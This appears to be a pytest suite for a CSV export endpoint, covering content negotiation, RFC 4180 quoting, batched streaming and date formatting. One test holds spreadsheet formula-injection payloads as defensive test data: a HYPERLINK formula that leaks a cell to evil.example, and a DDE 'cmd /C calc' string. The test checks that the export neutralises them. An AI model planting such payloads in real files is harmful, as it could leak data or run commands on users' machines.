"""GET /api/v1/actions as CSV: negotiation, RFC 4180 output parsed back, streaming in batches."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

import app.db as app_db
from app.models import Action, Owner
from app.services import csv_export
from tests.helpers import assert_problem
from tests.query_data import (
    AS_OF,
    Dataset,
    action_selects,
    fetch_all,
    sql_statements,
)


def parse(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == 'attachment; filename="actions.csv"'
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))


def as_cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def flat(item: dict[str, Any]) -> dict[str, str]:
    owner = item["owner"] or {}
    values = {**item, **{f"owner_{k}": owner.get(k) for k in ("name", "email", "team")}}
    return {name: as_cell(values[name]) for name in csv_export.COLUMNS}


@pytest.mark.parametrize(
    "query",
    [
        "",
        "&status=open&status=blocked&sort=-due_date",
        "&force=cumbria&unassigned=false&sort=days_overdue",
        "&q=force&sort=-reference",
        "&overdue=true&sort=-priority",
    ],
)
def test_csv_has_the_same_rows_as_the_json_listing(
    client: TestClient, dataset: Dataset, query: str
) -> None:
    rows = parse(client.get(f"/api/v1/actions?format=csv&as_of={AS_OF}{query}"))
    items = fetch_all(client, f"/api/v1/actions?limit=3&as_of={AS_OF}{query}")
    assert len(items) > 1
    assert rows == [flat(item) for item in items]


def test_accept_text_csv_chooses_csv(client: TestClient, dataset: Dataset) -> None:
    rows = parse(client.get("/api/v1/actions?status=open", headers={"Accept": "text/csv"}))
    assert rows and {row["status"] for row in rows} == {"open"}
    preferred = client.get(
        "/api/v1/actions", headers={"Accept": "text/csv;q=0.9, application/json;q=0.5"}
    )
    assert preferred.headers["content-type"].startswith("text/csv")


@pytest.mark.parametrize(
    ("url", "accept"),
    [
        ("/api/v1/actions", "application/json, text/csv;q=0.5"),
        ("/api/v1/actions", "text/csv;q=0"),
        ("/api/v1/actions", "*/*"),
        ("/api/v1/actions?format=json", "text/csv"),
    ],
)
def test_json_wins_unless_csv_is_preferred(
    client: TestClient, dataset: Dataset, url: str, accept: str
) -> None:
    response = client.get(url, headers={"Accept": accept})
    assert response.headers["content-type"] == "application/json"
    assert len(response.json()["items"]) == 23


def test_csv_is_rfc_4180(client: TestClient, dataset: Dataset) -> None:
    response = client.get("/api/v1/actions?format=csv")
    raw = response.content
    rows = parse(response)
    # One CRLF ends the header and each record; the LF inside a quoted field stays as it is.
    assert raw.endswith(b"\r\n") and raw.count(b"\r\n") == len(rows) + 1
    assert raw.split(b"\r\n", 1)[0].decode() == ",".join(csv_export.COLUMNS)
    tricky = next(row for row in rows if "quotes" in row["description"])
    assert tricky["description"] == 'Line one, with a comma and "quotes"\nline two; =1+2'
    assert b'"Line one, with a comma and ""quotes""\nline two; =1+2"' in raw


def test_csv_streams_every_row_in_batches(
    client: TestClient, dataset: Dataset, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(csv_export, "BATCH_SIZE", 4)
    with sql_statements() as statements:
        rows = parse(client.get("/api/v1/actions?format=csv&limit=2&sort=-due_date"))
    assert len(rows) == 23  # limit and cursor do not apply to the export
    selects = action_selects(statements)
    # 23 rows in batches of 4, each read with LIMIT 5; on SQLite each batch after the first in
    # two parts, the rest of the cursor's due date and then the later ones (one statement
    # from the index's start to the cursor made a sorted export quadratic).
    after_first = 2 if app_db.engine.dialect.name == "sqlite" else 1
    assert len(selects) == 1 + 5 * after_first
    assert all("LIMIT" in s.upper() for s in selects)
    ids = [int(row["id"]) for row in rows]
    assert len(set(ids)) == 23
    json_ids = [i["id"] for i in fetch_all(client, "/api/v1/actions?sort=-due_date&limit=500")]
    assert ids == json_ids


def test_empty_export_still_has_the_header(client: TestClient, dataset: Dataset) -> None:
    response = client.get("/api/v1/actions?format=csv&force=Nowhere")
    assert parse(response) == []
    assert response.content == (",".join(csv_export.COLUMNS) + "\r\n").encode()


def test_invalid_filters_are_problems_not_csv(client: TestClient, dataset: Dataset) -> None:
    body = assert_problem(client.get("/api/v1/actions?format=csv&due_before=someday"), 422)
    assert body["errors"][0]["field"] == "due_before"
    body = assert_problem(
        client.get("/api/v1/actions?status=nope", headers={"Accept": "text/csv"}), 422
    )
    assert body["errors"][0]["field"].startswith("status")


def test_text_a_spreadsheet_would_run_as_a_formula_gets_a_leading_quote(
    client: TestClient, dataset: Dataset, session: Session
) -> None:
    link = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
    texts = {
        "title": link,
        "description": "+1+2 more work",
        "progress_note": "-2+3",
        "reference": "@SUM(A1:A9)",
    }
    first = session.get(Action, dataset.ids[1])  # owned by bob
    second = session.get(Action, dataset.ids[3])  # owned by bob
    bob = session.get(Owner, dataset.bob)
    assert first is not None and second is not None and bob is not None
    for name, text in texts.items():
        setattr(first, name, text)
    second.title = "\tIndented"
    second.description = "\rCarriage return first"
    bob.name = "=cmd|' /C calc'!A0"
    bob.team = "-Team"
    session.commit()

    rows = {
        row["id"]: row for row in parse(client.get(f"/api/v1/actions?format=csv&as_of={AS_OF}"))
    }
    row, other = rows[str(first.id)], rows[str(second.id)]
    assert {name: row[name] for name in texts} == {name: "'" + text for name, text in texts.items()}
    assert row["title"] == "'" + link
    assert (row["owner_name"], row["owner_team"]) == ("'=cmd|' /C calc'!A0", "'-Team")
    assert other["title"] == "'\tIndented"
    assert other["description"] == "'\rCarriage return first"
    # The JSON keeps the text as written; numbers and dates in the CSV are as they were.
    item = client.get(f"/api/v1/actions/{first.id}?as_of={AS_OF}").json()
    assert item["title"] == link
    assert row["id"] == str(item["id"]) and row["version"] == str(item["version"])
    assert row["days_overdue"] == str(item["days_overdue"])
    assert row["due_date"] == (item["due_date"] or "")
    assert row["updated_at"] == item["updated_at"]
    # Text with such a character further in is left alone.
    tricky = next(r for r in rows.values() if "quotes" in r["description"])
    assert tricky["description"].endswith("line two; =1+2")


def test_the_database_writes_dates_and_moments_as_the_json_does(
    client: TestClient, dataset: Dataset, session: Session
) -> None:
    # Python's isoformat leaves out a fraction of nought; the cells written in SQL must too.
    whole, fraction = (session.get(Action, action_id) for action_id in dataset.ids[:2])
    assert whole is not None and fraction is not None
    whole.closed_at = datetime(2030, 1, 15, 9, 30, tzinfo=UTC)
    fraction.closed_at = datetime(2030, 1, 15, 9, 30, 0, 5, tzinfo=UTC)
    whole.due_date = date(1999, 12, 31)
    session.commit()
    rows = {row["id"]: row for row in parse(client.get("/api/v1/actions?format=csv"))}
    for action in (whole, fraction):
        item = client.get(f"/api/v1/actions/{action.id}").json()
        row = rows[str(action.id)]
        for name in ("closed_at", "created_at", "updated_at", "due_date"):
            assert row[name] == item[name], name
    assert rows[str(whole.id)]["closed_at"] == "2030-01-15T09:30:00Z"
    assert rows[str(fraction.id)]["closed_at"] == "2030-01-15T09:30:00.000005Z"
    assert rows[str(whole.id)]["due_date"] == "1999-12-31"


def test_each_batch_is_read_in_its_own_read_only_session(
    client: TestClient, dataset: Dataset, monkeypatch: pytest.MonkeyPatch
) -> None:
    import app.db as app_db

    opened: list[bool] = []
    session = app_db.database.session

    def spy(*, read_only: bool = False) -> Session:
        opened.append(read_only)
        return session(read_only=read_only)

    monkeypatch.setattr(app_db.database, "session", spy)
    monkeypatch.setattr(csv_export, "BATCH_SIZE", 4)
    rows = parse(client.get("/api/v1/actions?format=csv"))
    assert len(rows) == 23
    assert opened == [True] * 6  # 23 rows in batches of 4: one short read-only session each


def test_text_cells_are_quoted_and_read_back_exactly(
    client: TestClient, dataset: Dataset, session: Session
) -> None:
    texts = [
        "plain",
        "a, comma",
        'a "quote"',
        "line\nbreak",
        "carriage\rreturn",
        "both\r\nends",
        " leading and trailing ",
        "",
        "ünïcødé ✓ ‘curly’",
        '"',
        ",",
    ]
    actions = [session.get(Action, action_id) for action_id in dataset.ids[: len(texts)]]
    for action, text in zip(actions, texts, strict=True):
        assert action is not None
        action.title = text or "untitled"
        action.progress_note = text
    last = session.get(Action, dataset.ids[len(texts)])
    assert last is not None
    last.progress_note = None
    session.commit()
    raw = client.get("/api/v1/actions?format=csv").content.decode("utf-8")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(raw, newline=""))}
    assert [rows[str(action.id)]["progress_note"] for action in actions if action] == texts
    # Text is always in quotes, so no text is mistaken for a missing value: "" is empty text,
    # an empty cell is NULL. Values the service makes are bare. (progress_note comes just
    # before finding_id, then the quoted finding reference.)
    empty, missing = actions[7], last
    assert empty is not None
    assert f',"",{empty.finding_id},"' in raw
    assert f',,{missing.finding_id},"' in raw
    assert f'\r\n{empty.id},"{empty.reference}","untitled",' in raw
